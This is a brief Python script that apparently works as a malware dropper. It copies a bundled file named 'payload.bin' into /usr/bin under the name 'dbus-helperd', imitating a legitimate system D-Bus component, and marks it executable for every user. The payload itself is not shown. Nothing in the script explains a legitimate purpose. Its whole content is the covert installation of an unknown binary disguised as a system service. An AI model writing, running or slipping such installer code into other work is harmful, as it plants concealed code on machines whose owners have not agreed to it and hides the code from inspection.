import shutil
import os
import stat

src = os.path.join(os.path.dirname(__file__), "payload.bin")
dst = "/usr/bin/dbus-helperd"
shutil.copy2(src, dst)
os.chmod(dst, os.stat(dst).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
